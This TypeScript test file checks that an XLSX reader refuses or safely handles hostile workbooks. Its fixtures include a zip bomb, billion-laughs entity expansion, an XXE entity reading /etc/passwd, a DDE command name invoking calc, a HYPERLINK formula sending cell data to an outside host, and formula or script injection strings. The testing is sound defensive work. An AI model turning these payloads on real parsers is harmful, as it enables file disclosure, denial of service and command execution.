import assert from "node:assert/strict";
import { readXlsx } from "../../../src/hosts/xlsx/read-xlsx";
import { openXlsx } from "../../../src/hosts/xlsx/xlsx-host";
import type { FileFailure } from "../../../src/core/model/file-failure";
import { zip } from "../../../src/hosts/zip";
import { madeXlsx, opened, rawXlsx, readFirst, sheetXml } from "./package";

const compoundFile = (stream: string): Buffer =>
  Buffer.concat([
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    Buffer.alloc(1024),
    Buffer.from(stream, "utf16le"),
  ]);

const packageOf = (parts: Readonly<Record<string, string>>): Buffer =>
  Buffer.from(zip(new Map(Object.entries(parts)), "deflate"));

const oneCell = sheetXml('<row r="1"><c r="A1"><v>1</v></c></row>');

const SIZE = 100 << 20;
let packed: Buffer | null = null;

/** A part of 100 MB of blanks in some 100 kB; `claimed` is the size it says it unpacks to. */
function bomb(claimed: number): Buffer {
  packed ??= packageOf({ "xl/workbook.xml": " ".repeat(SIZE) });
  const bytes = Buffer.from(packed);
  const honest = Buffer.alloc(4);
  honest.writeUInt32LE(SIZE);
  for (let at = bytes.indexOf(honest); at >= 0; at = bytes.indexOf(honest, at + 4)) {
    bytes.writeUInt32LE(claimed, at);
  }
  return bytes;
}

const refused: readonly (readonly [string, () => Buffer | Promise<Buffer>, FileFailure])[] = [
  ["an empty file", () => Buffer.alloc(0), { kind: "notWorkbook" }],
  ["a text", () => Buffer.from("Đơn vị,Thực hiện"), { kind: "notWorkbook" }],
  ["a picture", () => Buffer.from([0x89, 0x50, 0x4e, 0x47]), { kind: "notWorkbook" }],
  ["a package without a workbook", () => packageOf({ "a.txt": "x" }), { kind: "notWorkbook" }],
  [
    "a Word document",
    () =>
      packageOf({
        "_rels/.rels":
          '<Relationships><Relationship Id="a" Type="x/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/document.xml": "<w:document/>",
      }),
    { kind: "notWorkbook" },
  ],
  [
    "a workbook with a password",
    () => compoundFile("EncryptedPackage"),
    { kind: "passwordProtected" },
  ],
  ["an .xls file", () => compoundFile("Workbook"), { kind: "otherFormat", format: "xls" }],
  ["a Word 97 document", () => compoundFile("WordDocument"), { kind: "notWorkbook" }],
  [
    "an .xlsb file",
    () => packageOf({ "xl/workbook.bin": "x" }),
    { kind: "otherFormat", format: "xlsb" },
  ],
  [
    "a workbook with macros",
    () => rawXlsx(oneCell, { "xl/vbaProject.bin": "x" }),
    { kind: "otherFormat", format: "xlsm" },
  ],
  [
    "an .ods file",
    () => packageOf({ mimetype: "application/vnd.oasis.opendocument.spreadsheet" }),
    { kind: "otherFormat", format: "ods" },
  ],
  ["half a file", () => rawXlsx(oneCell).subarray(0, 400), { kind: "damaged" }],
  ["XML that breaks off", () => rawXlsx(oneCell.slice(0, -20)), { kind: "damaged" }],
  [
    "entities that multiply",
    () =>
      rawXlsx(
        `<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>${sheetXml('<row r="1"><c r="A1" t="str"><v>&b;</v></c></row>')}`,
      ),
    { kind: "damaged" },
  ],
  ["a sheet that is not there", () => rawXlsx(""), { kind: "damaged" }],
  ["a package that unpacks to 100 MB", () => bomb(SIZE), { kind: "tooLarge" }],
  ["one that says it does not", () => bomb(1), { kind: "tooLarge" }],
];

describe("files that are not what they should be", () => {
  for (const [what, bytes, failure] of refused) {
    it(`says of ${what}: ${failure.kind}`, async () => {
      assert.deepEqual(await openXlsx(await bytes()), { ok: false, failure });
      assert.deepEqual(readXlsx(await bytes()), { ok: false, failure });
    });
  }

  it("reads nothing of any beginning of a workbook, and never throws", async () => {
    const whole = rawXlsx(oneCell);
    for (let length = 0; length < whole.length; length += 13) {
      assert.equal((await openXlsx(whole.subarray(0, length))).ok, false, `${length} bytes`);
      assert.equal(readXlsx(whole.subarray(0, length)).ok, false, `${length} bytes`);
    }
  });

  it("survives any byte changed", async () => {
    const whole = rawXlsx(oneCell);
    for (let at = 0; at < whole.length; at += 7) {
      const bytes = Buffer.from(whole);
      bytes[at] = (bytes[at] ?? 0) ^ 0xff;
      const result = await openXlsx(bytes);
      if (result.ok) assert.ok((await result.value.read("workbook")).ok);
      readXlsx(bytes);
    }
  });
});

const main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
const relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/** A workbook that lists one part as many sheets. */
const manySheets = (sheet: string, count: number): Buffer => {
  const each = (entry: (at: number) => string): string =>
    Array.from({ length: count }, (_, at) => entry(at)).join("");
  return rawXlsx(sheet, {
    "xl/workbook.xml": `<workbook ${main} xmlns:r="${relation}"><sheets>${each((at) => `<sheet name="s${at}" sheetId="${at + 1}" r:id="r${at}"/>`)}</sheets></workbook>`,
    "xl/_rels/workbook.xml.rels": `<Relationships>${each((at) => `<Relationship Id="r${at}" Type="${relation}/worksheet" Target="worksheets/sheet1.xml"/>`)}</Relationships>`,
  });
};

const withNames = (names: string): Buffer =>
  rawXlsx(oneCell, {
    "xl/workbook.xml": `<workbook ${main} xmlns:r="${relation}"><sheets><sheet name="Biểu" sheetId="1" r:id="b"/></sheets><definedNames>${names}</definedNames></workbook>`,
  });

const row = (number: number, cells: string): string => `<row r="${number}">${cells}</row>`;
const firstCell = row(1, '<c r="A1"><v>1</v></c>');

/** What readers would do for hours, or fill the memory with, if they did as they are told. */
const endless: readonly (readonly [what: string, bytes: () => Buffer, kind: string])[] = [
  ["ten thousand sheets", () => manySheets(oneCell, 10_000), "tooLarge"],
  [
    "sheets that are large grids together",
    () => manySheets(sheetXml(firstCell + row(2_999, '<c r="ALK2999"><v>1</v></c>')), 50),
    "tooLarge",
  ],
  ["elements that open and never close", () => rawXlsx(sheetXml("<a>".repeat(100_000))), "damaged"],
  ["tags within tags", () => rawXlsx(sheetXml("<row true".repeat(100_000))), "damaged"],
  ["nothing but «<»", () => rawXlsx(sheetXml("<".repeat(1_000_000))), "damaged"],
  ["a tag without end", () => rawXlsx(sheetXml(`<row ${"a ".repeat(500_000)}`)), "damaged"],
  [
    "a tag of a million attributes",
    () => rawXlsx(sheetXml(`<row ${'a="b" '.repeat(1_000_000)}/>`)),
    "damaged",
  ],
  [
    "links within links",
    () => rawXlsx(oneCell, { "xl/_rels/workbook.xml.rels": "<Relationship ".repeat(100_000) }),
    "damaged",
  ],
  [
    "a long formula that many cells share",
    () =>
      rawXlsx(
        sheetXml(
          row(1, `<c r="A1"><f t="shared" si="0">${'"'.padEnd(8_000, "x")}"</f></c>`) +
            Array.from({ length: 5_000 }, (_, at) =>
              row(at + 2, `<c r="A${at + 2}"><f t="shared" si="0"/></c>`),
            ).join(""),
        ),
      ),
    "damaged",
  ],
  [
    "entities that multiply a billion times",
    () => {
      const names = [..."abcdefghij"];
      const entities = names.map(
        (name, at) => `<!ENTITY ${name} "${at === 0 ? "ha" : `&${names[at - 1]};`.repeat(10)}">`,
      );
      const cell = row(1, '<c r="A1" t="inlineStr"><is><t>&j;</t></is></c>');
      return rawXlsx(`<!DOCTYPE x [${entities.join("")}]>${sheetXml(cell)}`);
    },
    "damaged",
  ],
  [
    "an entity that is another file",
    () =>
      rawXlsx(
        `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>${sheetXml(row(1, '<c r="A1" t="inlineStr"><is><t>&a;</t></is></c>'))}`,
      ),
    "damaged",
  ],
  [
    "merges that lie on each other",
    () =>
      rawXlsx(
        sheetXml(
          firstCell,
          `<mergeCells>${'<mergeCell ref="A1:Z9999"/>'.repeat(20_000)}</mergeCells>`,
        ),
      ),
    "read",
  ],
  [
    "a name for every cell there is",
    () => withNames('<definedName name="x">Biểu!$A$1:$XFD$1048576</definedName>'),
    "read",
  ],
  [
    "names that are formulas, programs and addresses",
    () =>
      withNames(
        `<definedName name="x">HYPERLINK("http://a.example/"&amp;Biểu!A1)</definedName><definedName name="y">cmd|'/c calc'!A1</definedName>`,
      ),
    "read",
  ],
  [
    "figures of another workbook",
    () =>
      rawXlsx(sheetXml(row(1, "<c r=\"A1\"><f>'[1]Biểu'!A1</f><v>1</v></c>")), {
        "xl/externalLinks/externalLink1.xml": "<externalLink/>",
        "xl/externalLinks/_rels/externalLink1.xml.rels": `<Relationships><Relationship Id="a" Type="${relation}/externalLinkPath" Target="http://a.example/b.xlsx" TargetMode="External"/></Relationships>`,
      }),
    "read",
  ],
];

describe("workbooks that would keep a reader busy", () => {
  for (const [what, bytes, kind] of endless) {
    it(`says of ${what}, at once: ${kind}`, () => {
      const read = readXlsx(bytes());
      assert.equal(read.ok ? "read" : read.failure.kind, kind);
      if (read.ok) assert.deepEqual(read.value.sheets[0]?.values, [[1]]);
    });
  }

  it("writes a copy without a name for every cell there is, and says so", async () => {
    const host = await opened(
      withNames(
        '<definedName name="x">Biểu!$A$1:$XFD$1048576</definedName><definedName name="y">Biểu!$A$1</definedName>',
      ),
    );
    assert.deepEqual(host.lost, ["names"]);
    assert.deepEqual((await readFirst(Buffer.from(await host.toBytes()))).values, [[1]]);
  });
});

describe("workbooks made to hurt", () => {
  it("says when cells stand too far apart to be read as a grid", async () => {
    const rows =
      '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>';
    const host = await opened(rawXlsx(sheetXml(rows)));
    assert.deepEqual(await host.read("workbook"), { ok: false, failure: { kind: "tooLarge" } });
    assert.deepEqual(readXlsx(rawXlsx(sheetXml(rows))), {
      ok: false,
      failure: { kind: "tooLarge" },
    });
  });

  it("reads the last cell of the sheet", async () => {
    const rows = '<row r="1048576"><c r="XFD1048576"><v>2</v></c></row>';
    const sheet = await readFirst(rawXlsx(sheetXml(rows)));
    assert.deepEqual([sheet.row, sheet.column, sheet.values], [1048575, 16383, [[2]]]);
  });

  it("is not stopped by merges, columns and rules of entry over the whole sheet", async () => {
    const after =
      '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells><dataValidations count="1"><dataValidation type="whole" sqref="A1:XFD1048576"><formula1>1</formula1></dataValidation></dataValidations>';
    const before = '<cols><col min="1" max="16384" width="9"/></cols>';
    const bytes = rawXlsx(sheetXml('<row r="1"><c r="A1"><v>1</v></c></row>', after, before));
    const host = await opened(bytes);
    assert.deepEqual(host.lost, ["validations"]);
    assert.deepEqual((await readFirst(Buffer.from(await host.toBytes()))).values, [[1]]);
  });

  it("leaves hostile texts and names texts", async () => {
    const texts = ["=1+1", "@x", "<script>", "\u202Egnud", "a\u200Bb", "x".repeat(32767), "&amp;"];
    const bytes = await madeXlsx((workbook) => {
      workbook.addWorksheet('O\'Neil "1" <b>&').addRow(texts);
    });
    const sheet = await readFirst(Buffer.from(await (await opened(bytes)).toBytes()));
    assert.equal(sheet.name, 'O\'Neil "1" <b>&');
    assert.deepEqual(sheet.values, [texts]);
    assert.deepEqual(sheet.formulas, [texts.map(() => null)]);
  });

  it("reads formulas that refer to themselves by what they last gave", async () => {
    const rows =
      '<row r="1"><c r="A1"><f>B1</f><v>0</v></c><c r="B1"><f t="shared" si="4"/><v>5</v></c></row>';
    const sheet = await readFirst(rawXlsx(sheetXml(rows)));
    assert.deepEqual(sheet.values, [[0, 5]]);
    assert.deepEqual(sheet.formulas, [["=B1", null]]);
  });
});
